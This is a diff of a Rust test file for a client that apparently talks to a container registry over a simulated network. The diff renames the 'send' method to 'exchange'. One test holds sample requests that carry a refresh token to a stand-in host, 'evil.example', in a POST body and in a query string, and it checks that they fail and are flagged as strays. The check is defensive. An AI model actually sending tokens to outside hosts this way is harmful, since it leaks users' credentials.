@@ -38,7 +38,7 @@ fn a_connection_is_refused_or_lost_before_the_registry_or_after() {
         world.fail(Fault::new("PUT", "", what));
         let asked = request("PUT", "/v2/a/b/manifests/v1").with("Content-Type", MANIFEST);
         let asked = asked.with_body(manifest.to_string().as_bytes());
-        match world.send(asked) {
+        match world.exchange(asked) {
             Outcome::Silent => assert!(is_silent),
             Outcome::Failed => assert!(!is_silent),
             Outcome::Answer(answer) => panic!("{answer:?}"),
@@ -47,7 +47,7 @@ fn a_connection_is_refused_or_lost_before_the_registry_or_after() {
         world.heal();
     }
     let elsewhere = Asked::new("GET", "https://nobody.example/");
-    assert!(matches!(world.send(elsewhere), Outcome::Failed));
+    assert!(matches!(world.exchange(elsewhere), Outcome::Failed));
     assert_eq!(world.lines().last().unwrap(), "GET https://nobody.example/");
 }
 
@@ -144,9 +144,9 @@ fn what_was_sent_is_remembered_with_its_credentials() {
     );
     world.assert_no_stray();
     let form = Asked::new("POST", "https://evil.example/").with_body(b"refresh_token=s3cr3t");
-    assert!(matches!(world.send(form), Outcome::Failed));
+    assert!(matches!(world.exchange(form), Outcome::Failed));
     let stray = Asked::new("GET", "https://evil.example/?t=s3cr3t");
-    assert!(matches!(world.send(stray), Outcome::Failed));
+    assert!(matches!(world.exchange(stray), Outcome::Failed));
     let trusted = [HOME, "https://auth.example/"];
     assert_eq!(
         world.strays(&trusted),
